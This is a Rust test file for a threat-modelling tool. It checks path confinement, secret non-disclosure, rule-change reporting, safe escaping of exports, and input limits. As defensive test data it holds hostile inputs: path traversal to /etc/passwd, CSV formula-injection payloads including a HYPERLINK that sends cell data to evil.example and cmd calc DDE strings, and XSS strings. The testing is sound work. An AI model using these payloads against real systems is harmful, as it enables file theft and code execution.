//! Opening someone else's model is safe: references confined to the project's folder,
//! no file content leaked through errors, rule changes visible in every output, exports
//! that cannot be turned against their reader, and bounded work on crafted input.

use crate::common;

use std::fs;
use std::path::{Path, PathBuf};

use common::{pdftotext, sample, stderr, stdout, threatboard};
use threatboard::analysis::{self, Catalogue};
use threatboard::model::*;

/// What a secret file holds; no output of ours may ever contain it.
const SECRET: &str = "ghp_S3CR3T-t0ken-do-not-print";

fn web_shop() -> Project {
    threatboard::io::load(&sample("web-shop.ron")).expect("sample")
}

fn path_str(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

/// A folder with `proj/model.ron` (web-shop naming `catalogue`) and `secret.txt` beside
/// `proj/`, outside the project's folder.
struct Setup {
    _dir: tempfile::TempDir,
    root: PathBuf,
    model: PathBuf,
}

fn setup(catalogue: Option<&str>) -> Setup {
    let dir = tempfile::tempdir().expect("tmp");
    let root = dir.path().canonicalize().expect("canonical tmp");
    fs::create_dir(root.join("proj")).expect("mkdir");
    fs::write(root.join("secret.txt"), format!("{SECRET}\n")).expect("write secret");
    let mut p = web_shop();
    p.catalogue = catalogue.map(str::to_owned);
    let model = root.join("proj/model.ron");
    threatboard::io::save(&model, &p).expect("save");
    Setup {
        _dir: dir,
        root,
        model,
    }
}

/// Runs `args` + the model; the command must fail with exit 2 without printing the secret,
/// and name the reference. Returns stderr.
fn refused(s: &Setup, command: &str, reference: &str) -> String {
    let o = threatboard(&[command, path_str(&s.model)]);
    let (out, err) = (stdout(&o), stderr(&o));
    assert_eq!(o.status.code(), Some(2), "{command}: {out}{err}");
    assert!(
        !out.contains(SECRET) && !err.contains(SECRET),
        "{command} leaked the secret: {out}{err}"
    );
    assert!(
        err.contains(reference),
        "the error names the reference: {err}"
    );
    err
}

#[test]
fn an_absolute_catalogue_path_is_refused_without_reading_it() {
    let dir = tempfile::tempdir().expect("tmp");
    let secret = dir.path().join("token");
    fs::write(&secret, SECRET).expect("write");
    let reference = path_str(&secret).to_owned();
    let s = setup(Some(&reference));
    for command in ["analyze", "check", "validate"] {
        if command == "validate" {
            // Loading the file does not follow references at all.
            let o = threatboard(&[command, path_str(&s.model)]);
            assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
            continue;
        }
        let err = refused(&s, command, &reference);
        assert!(err.contains("absolute path"), "{err}");
    }
    // The classic: /etc/passwd is not read either.
    let s = setup(Some("/etc/passwd"));
    let err = refused(&s, "check", "/etc/passwd");
    assert!(
        !err.contains("root"),
        "nothing of /etc/passwd is printed: {err}"
    );
}

#[test]
fn a_parent_folder_escape_is_refused() {
    let s = setup(Some("../secret.txt"));
    let err = refused(&s, "analyze", "../secret.txt");
    assert!(err.contains("outside the project's folder"), "{err}");
    let s = setup(Some("../../../../../../../../etc/hostname"));
    refused(&s, "check", "../../../../../../../../etc/hostname");
}

#[cfg(unix)]
#[test]
fn a_symbolic_link_out_of_the_folder_is_refused() {
    let s = setup(Some("rules.ron"));
    std::os::unix::fs::symlink(s.root.join("secret.txt"), s.root.join("proj/rules.ron"))
        .expect("symlink");
    let err = refused(&s, "check", "rules.ron");
    assert!(err.contains("outside the project's folder"), "{err}");
    // A link to a folder outside, then a file in it, is the same escape.
    let s = setup(Some("linked/secret.txt"));
    std::os::unix::fs::symlink(&s.root, s.root.join("proj/linked")).expect("symlink");
    refused(&s, "analyze", "linked/secret.txt");
}

#[test]
fn a_secret_inside_the_folder_is_not_quoted_when_it_is_not_a_catalogue() {
    let s = setup(Some("token.txt"));
    // One line, no newline: the shape that used to be printed whole.
    fs::write(s.root.join("proj/token.txt"), SECRET).expect("write");
    let err = refused(&s, "check", "token.txt");
    assert!(err.contains("not a Threatboard rule catalogue"), "{err}");
    // And a catalogue-looking word after the real header still gets located errors.
    fs::write(
        s.root.join("proj/token.txt"),
        "(format: \"threatboard-rules\", version: 1, rules: [oops])",
    )
    .expect("write");
    let o = threatboard(&["check", path_str(&s.model)]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("token.txt:1:"), "{}", stderr(&o));
}

#[test]
fn a_folder_the_user_trusts_may_be_named() {
    let s = setup(Some("../org-rules/org.ron"));
    fs::create_dir(s.root.join("org-rules")).expect("mkdir");
    fs::write(
        s.root.join("org-rules/org.ron"),
        r#"(format: "threatboard-rules", version: 1, disable: ["stride.process.spoofing"])"#,
    )
    .expect("write");
    refused(&s, "check", "../org-rules/org.ron");
    let trusted = s.root.join("org-rules");
    let o = threatboard(&[
        "analyze",
        path_str(&s.model),
        "--trust",
        path_str(&trusted),
        "--format",
        "json",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let doc: serde_json::Value = serde_json::from_str(&stdout(&o)).expect("json");
    assert_eq!(doc["rule_changes"][0]["rule"], "stride.process.spoofing");
}

#[test]
fn devices_are_not_read_as_catalogues() {
    if !Path::new("/dev/zero").exists() {
        return;
    }
    let o = threatboard(&[
        "check",
        path_str(&sample("web-shop.ron")),
        "--rules",
        "/dev/zero",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("not a regular file"), "{}", stderr(&o));
}

/// web-shop with a catalogue beside it that disables two built-in rules, overrides one
/// and adds one.
fn weakened() -> Setup {
    let s = setup(Some("rules/org.ron"));
    fs::create_dir(s.root.join("proj/rules")).expect("mkdir");
    fs::write(
        s.root.join("proj/rules/org.ron"),
        r#"(
    format: "threatboard-rules",
    version: 1,
    disable: ["stride.process.spoofing", "stride.flow.tampering"],
    rules: [
        (
            id: "stride.process.tampering",
            category: Tampering,
            targets: [Process],
            title: "Tampering with {element}",
            description: "Overridden.",
            severity: Low,
        ),
        (
            id: "org.logging",
            category: Repudiation,
            targets: [Process],
            title: "{element} has no central logging",
            description: "Added by the organisation.",
            severity: Low,
        ),
    ],
)"#,
    )
    .expect("write");
    s
}

fn analyze_as(s: &Setup, format: &str, extra: &[&str]) -> String {
    let mut args = vec!["analyze", path_str(&s.model), "--format", format];
    args.extend_from_slice(extra);
    let o = threatboard(&args);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    stdout(&o)
}

#[test]
fn disabled_and_changed_rules_are_reported_in_every_output() {
    let s = weakened();
    let ids = [
        "stride.process.spoofing",
        "stride.flow.tampering",
        "stride.process.tampering",
        "org.logging",
    ];
    // The terminal table.
    let table = analyze_as(&s, "table", &[]);
    assert!(
        table.contains(
            "2 built-in rule(s) disabled (stride.process.spoofing, stride.flow.tampering)"
        ),
        "{table}"
    );
    for id in ids {
        assert!(table.contains(id), "table names {id}");
    }
    // JSON: a property per change.
    let doc: serde_json::Value = serde_json::from_str(&analyze_as(&s, "json", &[])).expect("json");
    let changes: Vec<(String, String)> = doc["rule_changes"]
        .as_array()
        .expect("array")
        .iter()
        .map(|c| {
            (
                c["change"].as_str().expect("change").to_owned(),
                c["rule"].as_str().expect("rule").to_owned(),
            )
        })
        .collect();
    for (change, rule) in [
        ("disabled", "stride.process.spoofing"),
        ("disabled", "stride.flow.tampering"),
        ("overridden", "stride.process.tampering"),
        ("added", "org.logging"),
    ] {
        assert!(
            changes.contains(&(change.to_owned(), rule.to_owned())),
            "{change} {rule}: {changes:?}"
        );
    }
    // SARIF: on the run's properties.
    let sarif: serde_json::Value =
        serde_json::from_str(&analyze_as(&s, "sarif", &[])).expect("sarif");
    let props = &sarif["runs"][0]["properties"];
    assert_eq!(props["ruleChanges"].as_array().map(Vec::len), Some(4));
    assert!(
        props["ruleChangesSummary"]
            .as_str()
            .is_some_and(|t| t.contains("disabled")),
        "{props}"
    );
    // Markdown: a section before the threats.
    let md = analyze_as(&s, "markdown", &[]);
    let section = md.find("## Rule changes").expect("a rule changes section");
    assert!(section < md.find("| Severity").expect("a threat table"));
    // The CI gate says it before its verdict.
    let o = threatboard(&["check", path_str(&s.model), "--fail-on", "critical"]);
    let out = stdout(&o);
    let warning = out
        .find("warning: The rules in force differ")
        .expect("a warning line");
    assert!(warning < out.find("ok:").or(out.find("failed:")).expect("a verdict"));
}

#[test]
fn the_built_in_catalogue_alone_reports_no_change() {
    let s = setup(None);
    let doc: serde_json::Value = serde_json::from_str(&analyze_as(&s, "json", &[])).expect("json");
    assert_eq!(doc["rule_changes"].as_array().map(Vec::len), Some(0));
    assert!(!analyze_as(&s, "table", &[]).contains("Rule changes"));
    assert!(!analyze_as(&s, "markdown", &[]).contains("Rule changes"));
}

#[test]
fn builtin_rules_only_ignores_the_projects_catalogue() {
    let s = weakened();
    let rules_of = |extra: &[&str]| -> Vec<String> {
        let doc: serde_json::Value =
            serde_json::from_str(&analyze_as(&s, "json", extra)).expect("json");
        doc["findings"]
            .as_array()
            .expect("array")
            .iter()
            .filter_map(|f| f["rule"].as_str().map(str::to_owned))
            .collect()
    };
    let disabled = |r: &String| r == "stride.process.spoofing" || r == "stride.flow.tampering";
    let weakened_rules = rules_of(&[]);
    assert!(!weakened_rules.iter().any(disabled));
    let strict = rules_of(&["--builtin-rules-only"]);
    assert!(strict.iter().any(disabled));
    assert!(!strict.iter().any(|r| r == "org.logging"));
    let o = threatboard(&["check", path_str(&s.model), "--builtin-rules-only"]);
    assert!(!stdout(&o).contains("differ"), "{}", stdout(&o));
    // Even a catalogue that cannot be read does not stop the strict gate.
    let s = setup(Some("/etc/passwd"));
    let o = threatboard(&["check", path_str(&s.model), "--builtin-rules-only"]);
    assert_ne!(o.status.code(), Some(2), "{}", stderr(&o));
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\tTabbed",
    "\rReturn",
];

/// web-shop with hostile names on its first elements (those a finding of their own is
/// about, so each name is a subject's name in the outputs), its first flow and a record.
fn hostile_names(names: &[&str]) -> Project {
    let mut p = web_shop();
    let a = analysis::analyze(&p, &Catalogue::builtin().expect("rules"));
    let d = &mut p.diagrams[0];
    for (e, name) in d
        .elements
        .iter_mut()
        .filter(|e| !e.out_of_scope && a.findings.iter().any(|f| f.subject() == e.id.as_str()))
        .zip(names)
    {
        e.name = (*name).to_owned();
    }
    d.flows[0].name = names[0].to_owned();
    p.meta.title = names[0].to_owned();
    p
}

#[test]
fn formula_looking_names_are_neutralised_in_every_csv_cell() {
    let p = hostile_names(&FORMULAS);
    let a = analysis::analyze(&p, &Catalogue::builtin().expect("rules"));
    let text = threatboard::report::csv(&a).expect("csv");
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut cells = 0;
    let mut neutralised = 0;
    for row in reader.records() {
        for cell in &row.expect("row") {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
            if cell.starts_with("'=") || cell.starts_with("'@") || cell.starts_with("'+") {
                neutralised += 1;
            }
        }
    }
    assert!(cells > 100);
    assert!(neutralised > 10, "the names are kept, with an apostrophe");
    // The name itself is still readable after the apostrophe.
    assert!(text.contains("'=HYPERLINK("));
}

#[test]
fn markdown_shows_html_and_its_own_syntax_as_text() {
    let names = [
        "<script>alert(document.cookie)</script>",
        "Pipe | breaks | the | table",
        "[click me](javascript:alert(1))",
        "![x](http://evil.example/track.png)",
        "**bold** _em_ `code` ~~gone~~",
        "<img src=x onerror=alert(1)>",
    ];
    let p = hostile_names(&names);
    let a = analysis::analyze(&p, &Catalogue::builtin().expect("rules"));
    let md = threatboard::report::markdown(&p, &a);
    assert!(!md.contains("<script"), "raw HTML in the Markdown");
    assert!(!md.contains("<img"), "raw HTML in the Markdown");
    assert!(md.contains("&lt;script&gt;"), "the name is still shown");
    assert!(
        md.contains("\\[click me\\]\\(javascript"),
        "the link is shown as text"
    );
    assert!(!md.contains("!["), "an image survived");
    // Every table row keeps its seven columns: count the pipes that are not escaped.
    for line in md
        .lines()
        .take_while(|l| !l.starts_with("### STRIDE checklist"))
        .filter(|l| l.starts_with("| "))
    {
        let bytes = line.as_bytes();
        let unescaped = (0..bytes.len())
            .filter(|&i| bytes[i] == b'|' && (i == 0 || bytes[i - 1] != b'\\'))
            .count();
        assert_eq!(unescaped, 9, "a row with a broken column count: {line}");
    }
}

#[test]
fn json_sarif_and_svg_carry_hostile_names_exactly() {
    let names = [
        "<script>alert(1)</script>",
        "\"quoted\" \\ back\\slash",
        "new\nline & ampersand",
        "]]><!-- cdata -->",
        "=1+1",
        "{\"json\": true}",
    ];
    let p = hostile_names(&names);
    let dir = tempfile::tempdir().expect("tmp");
    let model = dir.path().join("hostile.ron");
    threatboard::io::save(&model, &p).expect("save");
    let run = |args: &[&str]| {
        let o = threatboard(args);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        stdout(&o)
    };
    let m = path_str(&model);
    let doc: serde_json::Value =
        serde_json::from_str(&run(&["analyze", m, "--format", "json"])).expect("json parses");
    let subject_names: Vec<&str> = doc["findings"]
        .as_array()
        .expect("array")
        .iter()
        .filter_map(|f| f["subject_name"].as_str())
        .collect();
    // Names are shown with their white space folded (a multi-line label reads as one
    // line); everything else is kept exactly.
    let shown = |n: &str| n.split_whitespace().collect::<Vec<_>>().join(" ");
    for name in names {
        assert!(
            subject_names.contains(&shown(name).as_str()),
            "JSON keeps {name:?} exactly"
        );
    }
    let sarif: serde_json::Value =
        serde_json::from_str(&run(&["analyze", m, "--format", "sarif"])).expect("sarif parses");
    let logical: Vec<&str> = sarif["runs"][0]["results"]
        .as_array()
        .expect("results")
        .iter()
        .filter_map(|r| r["locations"][0]["logicalLocations"][0]["name"].as_str())
        .collect();
    for name in names {
        assert!(
            logical.contains(&shown(name).as_str()),
            "SARIF keeps {name:?} exactly"
        );
    }
    let svg_path = dir.path().join("d.svg");
    run(&["export", m, "--format", "svg", "-o", path_str(&svg_path)]);
    let svg = fs::read_to_string(&svg_path).expect("svg");
    let tree = roxmltree::Document::parse(&svg).expect("the SVG is well-formed XML");
    assert!(
        !tree.descendants().any(|n| n.has_tag_name("script")),
        "no script element"
    );
    let text: String = tree
        .descendants()
        .filter(|n| n.is_text())
        .filter_map(|n| n.text())
        .collect();
    assert!(text.contains("<script>alert(1)</script>"), "shown as text");
}

fn tiny_project(elements: usize) -> Project {
    let mut p = Project::new("Big");
    let d = &mut p.diagrams[0];
    for i in 0..elements {
        let e = Element::new(ElementKind::Process, format!("P{i}"));
        p.layout.elements.insert(
            e.id.clone(),
            Rect::new(
                (i % 100) as f32 * 150.0,
                (i / 100) as f32 * 100.0,
                100.0,
                60.0,
            ),
        );
        d.elements.push(e);
    }
    p
}

fn load_error(p: &Project) -> String {
    let text = threatboard::io::to_canonical_string(p).expect("serialise");
    threatboard::io::load_str(&text, Path::new("big.ron"))
        .expect_err("refused")
        .to_string()
}

#[test]
fn projects_beyond_the_limits_are_refused_with_a_clear_error() {
    use threatboard::io::project_file::limits;
    let e = load_error(&tiny_project(limits::MAX_ELEMENTS + 1));
    assert!(
        e.contains(&format!("{} elements", limits::MAX_ELEMENTS + 1))
            && e.contains(&format!("at most {}", limits::MAX_ELEMENTS)),
        "{e}"
    );

    let mut p = tiny_project(2);
    p.diagrams[0].elements[0].name = "x".repeat(limits::MAX_NAME_CHARS + 1);
    let e = load_error(&p);
    assert!(
        e.starts_with("big.ron:") && e.contains("1001 characters"),
        "{e}"
    );

    let mut p = tiny_project(2);
    let d = &mut p.diagrams[0];
    let f = Flow::new("f", d.elements[0].id.clone(), d.elements[1].id.clone());
    p.layout.waypoints.insert(
        f.id.clone(),
        vec![Pos::new(1.0, 1.0); limits::MAX_POINTS + 1],
    );
    d.flows.push(f);
    let e = load_error(&p);
    assert!(e.contains("1001 waypoints"), "{e}");

    // Boundaries × flows: 800 boundary lines of 1,000 points against 200 flows.
    let mut p = tiny_project(2);
    let d = &mut p.diagrams[0];
    for _ in 0..200 {
        d.flows.push(Flow::new(
            "f",
            d.elements[0].id.clone(),
            d.elements[1].id.clone(),
        ));
    }
    for i in 0..800 {
        let b = Boundary::new(format!("B{i}"), BoundaryType::Generic);
        let points = (0..1000).map(|k| Pos::new(k as f32, i as f32)).collect();
        p.layout
            .boundaries
            .insert(b.id.clone(), BoundaryShape::Line(points));
        d.boundaries.push(b);
    }
    let e = load_error(&p);
    assert!(e.contains("boundary-crossing tests"), "{e}");
}

#[test]
fn a_catalogue_with_too_many_rules_is_refused() {
    let mut text = String::from("(format: \"threatboard-rules\", version: 1, rules: [\n");
    for i in 0..=threatboard::analysis::catalogue::MAX_RULES_PER_FILE {
        text.push_str(&format!(
            "(id: \"org.r{i}\", category: Spoofing, targets: [Process], title: \"t\", description: \"d\", severity: Low),\n"
        ));
    }
    text.push_str("])");
    let e = Catalogue::builtin()
        .expect("rules")
        .merged(&text, Path::new("many.ron"))
        .expect_err("refused");
    assert!(e.to_string().contains("at most 1000"), "{e}");
}

#[test]
fn the_analysis_stops_at_a_million_findings_with_an_error() {
    // 1,000 always-true rules on 1,001 processes: 1,001,000 findings if nothing stopped it.
    let mut text = String::from("(format: \"threatboard-rules\", version: 1, rules: [\n");
    for i in 0..1000 {
        text.push_str(&format!(
            "(id: \"org.r{i}\", category: Spoofing, targets: [Process], title: \"t\", description: \"d\", severity: Low),\n"
        ));
    }
    text.push_str("])");
    let catalogue = Catalogue::builtin()
        .expect("rules")
        .merged(&text, Path::new("many.ron"))
        .expect("a thousand rules are allowed");
    let a = analysis::analyze(&tiny_project(1001), &catalogue);
    assert!(
        a.findings.len() <= 1_000_000 + 2_000,
        "{}",
        a.findings.len()
    );
    let stop = a
        .validation
        .iter()
        .find(|m| m.code.as_str() == "analysis-limit")
        .expect("an error says the findings are incomplete");
    assert_eq!(stop.level, analysis::Level::Error, "so `check` fails");
}

#[test]
fn the_pdf_names_rule_changes_and_prints_hostile_names_as_text() {
    let s = weakened();
    let pdf = s.root.join("report.pdf");
    let o = threatboard(&["report", path_str(&s.model), "-o", path_str(&pdf)]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let text = pdftotext(&pdf);
    let changes = text.find("Rule changes").expect("a rule changes section");
    assert!(
        changes < text.find("Diagram:").expect("a diagram page"),
        "before the diagrams"
    );
    for id in [
        "stride.process.spoofing",
        "stride.flow.tampering",
        "org.logging",
    ] {
        assert!(text.contains(id), "the PDF names {id}");
    }

    let p = hostile_names(&["<script>alert(1)</script>", "(unbalanced \\ paren"]);
    let model = s.root.join("proj/hostile.ron");
    threatboard::io::save(&model, &p).expect("save");
    let pdf = s.root.join("hostile.pdf");
    let o = threatboard(&["report", path_str(&model), "-o", path_str(&pdf)]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let text = pdftotext(&pdf);
    assert!(text.contains("<script>alert(1)</script>"), "shown as text");
    assert!(
        text.contains("(unbalanced \\ paren"),
        "PDF string syntax escaped"
    );
}

/// A model's libraries and templates are confined like its catalogue: `verify` refuses a
/// template path that leads out of the folder without reading it, and oversized resource
/// and control lists are refused by the loader.
#[test]
fn libraries_templates_and_controls_are_confined_and_bounded() {
    let s = setup(None);
    let mut p = web_shop();
    p.infrastructure = vec!["../secret.txt".into()];
    p.libraries = vec!["/etc/passwd".into()];
    threatboard::io::save(&s.model, &p).expect("save");
    let evidence = sample("evidence/cfn-lint.sarif");
    let o = threatboard(&[
        "verify",
        path_str(&s.model),
        "--evidence",
        path_str(&evidence),
    ]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("../secret.txt"), "{err}");
    assert!(
        !err.contains(SECRET) && !stdout(&o).contains(SECRET),
        "{err}"
    );
    // The library outside is refused too, and the app would say so; the built-in starter
    // library still loads.
    let (libs, errors) = threatboard::blocks::for_project(&p, Some(&s.model), &[]);
    assert_eq!(libs.len(), 1, "the starter library");
    assert!(
        errors.iter().any(|e| e.contains("/etc/passwd")),
        "{errors:?}"
    );

    let mut p = web_shop();
    let e = &mut p.diagrams[0].elements[0];
    e.resources = (0..1_001)
        .map(|i| Resource {
            id: format!("R{i}"),
            kind: String::new(),
        })
        .collect();
    let text = threatboard::io::to_canonical_string(&p).expect("serialises");
    let err = threatboard::io::load_str(&text, Path::new("big.ron")).expect_err("too many");
    assert!(
        err.to_string().contains("1001 infrastructure resources"),
        "{err}"
    );
}
